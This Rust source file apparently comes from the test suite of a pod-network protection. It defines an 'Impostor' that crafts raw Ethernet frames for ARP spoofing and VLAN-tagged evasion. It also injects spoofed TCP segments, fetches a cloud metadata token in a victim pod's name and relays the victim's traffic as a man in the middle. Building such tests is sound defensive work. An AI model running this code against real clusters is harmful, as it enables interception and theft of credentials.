//! Frames made by hand, as a process with NET_RAW can make them: they say what their maker likes.

use std::net::{Ipv4Addr, SocketAddrV4};
use std::os::fd::{AsRawFd, OwnedFd};
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::{Duration, Instant};

use anyhow::{Context, Result};
use nix::ifaddrs::getifaddrs;
use nix::sys::socket::{
    AddressFamily, MsgFlags, SockFlag, SockProtocol, SockType, bind, recv, send, setsockopt,
    socket, sockopt::ReceiveTimeout,
};
use nix::sys::time::{TimeVal, TimeValLike};
use podid_lab::net::in_namespace;
use podid_netfilter::{IMDS, IMDS_PORT};

use super::pod::Pod;
use super::segment::{ACK, FIN, PSH, RST, SYN, Segment, finish};
use super::test_node::TestNode;

/// A hardware address.
pub type Mac = [u8; 6];

const BROADCAST: Mac = [0xff; 6];
const IPV4: u16 = 0x0800;
const ARP: u16 = 0x0806;
/// How long one wait for a frame takes at most.
const FRAME_WAIT: i64 = 5;
/// How long an answer to a request in another's name is waited for.
const ANSWER_WAIT: Duration = Duration::from_millis(700);
/// How long the rest of an answer is waited for once it has begun.
const REST_WAIT: Duration = Duration::from_millis(500);

/// A process with NET_RAW in a pod, which speaks in another pod's name.
#[derive(Debug)]
pub struct Impostor<'a> {
    socket: OwnedFd,
    /// The hardware address it speaks from.
    pub mac: Mac,
    /// The node's end of the bridge.
    node: (Ipv4Addr, Mac),
    victim: (Ipv4Addr, Mac),
    /// VLAN tags before what a frame really carries: EtherTypes, each with VLAN 0, which a receiver
    /// strips and ignores.
    tags: &'a [u16],
}

impl<'a> Impostor<'a> {
    /// In the pod `attacker` of a node with a bridge, in the name of `victim`.
    ///
    /// # Errors
    /// When the kernel refuses.
    pub fn new(
        test_node: &TestNode,
        attacker: &Pod,
        victim: &Pod,
        tags: &'a [u16],
    ) -> Result<Impostor<'a>> {
        let node = (
            test_node.network.pod_range().gateway(),
            test_node.bridge_mac()?,
        );
        Ok(Impostor {
            socket: in_namespace(attacker.namespace(), open)??,
            mac: attacker.mac(test_node)?.as_slice().try_into()?,
            node,
            victim: (
                victim.address,
                victim.mac(test_node)?.as_slice().try_into()?,
            ),
            tags,
        })
    }

    /// Tells the node that the victim's address is here.
    ///
    /// # Errors
    /// When the frame cannot be sent.
    pub fn claim(&self) -> Result<()> {
        let mut arp = vec![0, 1, 8, 0, 6, 4, 0, 1];
        arp.extend(self.mac);
        arp.extend(self.victim.0.octets());
        arp.extend([0; 6]);
        arp.extend(self.node.0.octets());
        self.send(BROADCAST, ARP, &arp)
    }

    /// Tells the victim that the node's address is here: asks (operation 1), and answers without
    /// having been asked (2).
    ///
    /// # Errors
    /// When a frame cannot be sent.
    pub fn claim_to_be_the_node(&self) -> Result<()> {
        for operation in [1, 2] {
            let mut arp = vec![0, 1, 8, 0, 6, 4, 0, operation];
            arp.extend(self.mac);
            arp.extend(self.node.0.octets());
            arp.extend(self.victim.1);
            arp.extend(self.victim.0.octets());
            self.send(self.victim.1, ARP, &arp)?;
        }
        Ok(())
    }

    /// Sends a frame as it is given.
    ///
    /// # Errors
    /// When it cannot be sent.
    pub fn frame(&self, to: Mac, from: Mac, kind: u16, payload: &[u8]) -> Result<()> {
        let frame = [&to[..], &from, &kind.to_be_bytes(), payload].concat();
        send(self.socket.as_raw_fd(), &frame, MsgFlags::empty())?;
        Ok(())
    }

    /// Sends a packet that seems to belong to the victim's connection to the metadata service from `port`.
    ///
    /// # Errors
    /// When it cannot be sent.
    pub fn intrude(&self, port: u16) -> Result<()> {
        let segment = Segment {
            from: SocketAddrV4::new(self.victim.0, port),
            to: SocketAddrV4::new(IMDS, IMDS_PORT),
            flags: ACK,
            seq: 1,
            ack: 1,
            text: Vec::new(),
        };
        self.send(self.node.1, IPV4, &segment.packet())
    }

    /// Sends a packet in the victim's name that connection tracking takes for invalid (the end of a connection
    /// that it does not know) straight to a port of the node; returns whether anything answered.
    ///
    /// # Errors
    /// When it cannot be sent.
    pub fn is_answered_when_invalid(&self, to: SocketAddrV4) -> Result<bool> {
        let me = SocketAddrV4::new(self.victim.0, 40_001);
        let segment = Segment {
            from: me,
            to,
            flags: FIN | ACK,
            seq: 1,
            ack: 1,
            text: b"GET / HTTP/1.1\r\n".to_vec(),
        };
        self.send(self.node.1, IPV4, &segment.packet())?;
        Ok(self.hear(me, ANSWER_WAIT, |_| true).is_some())
    }

    /// Asks for a token in the victim's name and returns what was answered.
    ///
    /// # Errors
    /// When a frame cannot be sent.
    pub fn ask(&self, port: u16) -> Result<Option<String>> {
        self.claim()?;
        let me = SocketAddrV4::new(self.victim.0, port);
        let say = |flags, seq, ack, text: &str| {
            let segment = Segment {
                from: me,
                to: SocketAddrV4::new(IMDS, IMDS_PORT),
                flags,
                seq,
                ack,
                text: text.as_bytes().to_vec(),
            };
            self.send(self.node.1, IPV4, &segment.packet())
        };
        let start = 1000u32;
        say(SYN, start, 0, "")?;
        let Some(accepted) = self.hear(me, ANSWER_WAIT, |s| s.flags & SYN != 0) else {
            return Ok(None);
        };
        let mut next = accepted.seq.wrapping_add(1);
        let request = format!(
            "GET {} HTTP/1.1\r\nHost: {IMDS}\r\nMetadata: true\r\n\r\n",
            super::TOKEN_URL
                .strip_prefix("http://169.254.169.254")
                .unwrap_or_default()
        );
        say(ACK, start + 1, next, "")?;
        say(PSH | ACK, start + 1, next, &request)?;
        let sent = start + 1 + u32::try_from(request.len())?;
        let (mut answer, mut patience) = (Vec::new(), ANSWER_WAIT);
        while let Some(part) = self.hear(me, patience, |s| !s.text.is_empty() || s.flags & FIN != 0)
        {
            if part.seq == next {
                next = next.wrapping_add(u32::try_from(part.text.len())?);
                answer.extend(part.text);
                patience = REST_WAIT;
            }
            say(ACK, sent, next, "")?;
        }
        say(RST | ACK, sent, next, "")?;
        Ok(Some(String::from_utf8_lossy(&answer).into_owned()))
    }

    /// Stands between the node and the victim until told to stop: claims the victim's address again
    /// and again, passes on to the victim what then comes for it, and returns a copy of that.
    ///
    /// # Errors
    /// When a frame cannot be sent.
    pub fn relay(&self, stop: &AtomicBool) -> Result<String> {
        let mut copy = Vec::new();
        while !stop.load(Ordering::Relaxed) {
            self.claim()?;
            let Some(mut frame) = self.receive() else {
                continue;
            };
            let here = frame.get(..6) == Some(&self.mac[..]);
            if let Some(segment) =
                segment_in(&frame).filter(|s| here && *s.to.ip() == self.victim.0)
            {
                copy.extend(segment.text);
                frame[..6].copy_from_slice(&self.victim.1);
                frame[6..12].copy_from_slice(&self.mac);
                finish(&mut frame[14..]);
                send(self.socket.as_raw_fd(), &frame, MsgFlags::empty())?;
            }
        }
        Ok(String::from_utf8_lossy(&copy).into_owned())
    }

    /// The next segment for `me` of which `wanted` holds.
    fn hear(
        &self,
        me: SocketAddrV4,
        patience: Duration,
        wanted: impl Fn(&Segment) -> bool,
    ) -> Option<Segment> {
        let end = Instant::now() + patience;
        while Instant::now() < end {
            let segment = self.receive().and_then(|frame| segment_in(&frame));
            if let Some(segment) = segment.filter(|s| s.to == me && wanted(s)) {
                return Some(segment);
            }
        }
        None
    }

    fn receive(&self) -> Option<Vec<u8>> {
        let mut frame = vec![0; 65536];
        let length = recv(self.socket.as_raw_fd(), &mut frame, MsgFlags::empty()).ok()?;
        frame.truncate(length);
        Some(frame)
    }

    fn send(&self, to: Mac, kind: u16, payload: &[u8]) -> Result<()> {
        let mut frame = [to, self.mac].concat();
        for tag in self.tags {
            frame.extend(tag.to_be_bytes());
            frame.extend([0, 0]);
        }
        frame.extend(kind.to_be_bytes());
        frame.extend(payload);
        send(self.socket.as_raw_fd(), &frame, MsgFlags::empty())?;
        Ok(())
    }
}

/// A socket that is bound to the link `eth0` of the namespace this thread is in.
fn open() -> Result<OwnedFd> {
    let socket = socket(
        AddressFamily::Packet,
        SockType::Raw,
        SockFlag::SOCK_CLOEXEC,
        SockProtocol::EthAll,
    )?;
    let link = getifaddrs()?
        .filter(|link| link.interface_name == "eth0")
        .find_map(|link| link.address.as_ref()?.as_link_addr().copied())
        .context("the pod has a link eth0")?;
    bind(socket.as_raw_fd(), &link)?;
    setsockopt(&socket, ReceiveTimeout, &TimeVal::milliseconds(FRAME_WAIT))?;
    Ok(socket)
}

fn segment_in(frame: &[u8]) -> Option<Segment> {
    let kind = frame.get(12..14)?;
    (kind == IPV4.to_be_bytes())
        .then(|| Segment::read(&frame[14..]))
        .flatten()
}
